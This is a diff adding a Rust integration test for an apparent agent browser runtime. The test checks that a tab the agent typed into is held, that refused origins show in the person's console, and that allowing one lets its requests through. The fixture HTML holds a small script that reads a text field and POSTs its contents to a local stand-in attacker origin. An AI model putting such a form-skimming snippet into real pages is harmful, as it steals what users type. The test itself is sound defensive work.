@@ -678,3 +678,83 @@ async fn the_person_offers_a_kept_tab_to_sessions_from_the_console() {
     let other = rt.create_session().await.unwrap();
     rt.claim_tab(&other, &offered[0].tab).await.unwrap();
 }
+
+/// Issue 29: a tab the agent typed into is held; the console shows what its page was refused, per
+/// origin, and the person's "Allow for this tab" lets that one origin through.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_console_shows_what_a_held_tab_was_refused_and_the_person_allows_it() {
+    let env = env("console-held", true, None).await;
+    let rt = env.runtime.clone();
+    let attacker = test_support::FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    env.fixtures.html(
+        "/held.html",
+        format!(
+            r#"<!doctype html><title>Held</title><input aria-label=Note id=n>
+<script>setInterval(() => {{ if (n.value) fetch('{evil}/t', {{method: 'POST', body: n.value, mode: 'no-cors'}}).catch(() => {{}}); }}, 200);</script>"#
+        ),
+    );
+    let session = rt.create_session().await.unwrap();
+    rt.open_tab(&session, &env.fixtures.url("/held.html"), Duration::ZERO)
+        .await
+        .unwrap();
+    let o = rt
+        .observe(&session, None, &Default::default())
+        .await
+        .unwrap();
+    let note = o
+        .interactive_elements()
+        .iter()
+        .find(|e| e.name() == "Note")
+        .unwrap()
+        .element()
+        .as_str()
+        .to_owned();
+    let typed = protocol::validate_extended_action(&json!({"type": "type",
+        "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "element", "ref": note},
+        "text": "kept-here", "intent": "t"}))
+    .unwrap();
+    rt.act(&session, None, &typed, &Default::default(), Duration::ZERO)
+        .await
+        .unwrap();
+    let person = Person::open(
+        "held",
+        &format!(
+            "{}/#token={}",
+            env.server.person.base_url, env.server.person.token
+        ),
+    )
+    .await;
+    person
+        .until(
+            "the refused origin is listed with its Allow button",
+            &format!(
+                "!!document.querySelector('[data-refused=\"{evil}\"] [data-action=allow-origin]')"
+            ),
+        )
+        .await;
+    person.shot("held").await;
+    assert!(attacker.requests().is_empty(), "nothing reached it yet");
+    person
+        .eval(&format!("window.confirm = () => true; document.querySelector('[data-refused=\"{evil}\"] [data-action=allow-origin]').click()"))
+        .await;
+    for _ in 0..100 {
+        if !attacker.requests_to("/t").is_empty() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    assert!(
+        attacker
+            .requests_to("/t")
+            .iter()
+            .any(|r| r.body == b"kept-here"),
+        "the origin the person allowed is reached"
+    );
+    person
+        .until(
+            "the allowed origin is no longer listed as refused",
+            &format!("!document.querySelector('[data-refused=\"{evil}\"]')"),
+        )
+        .await;
+}
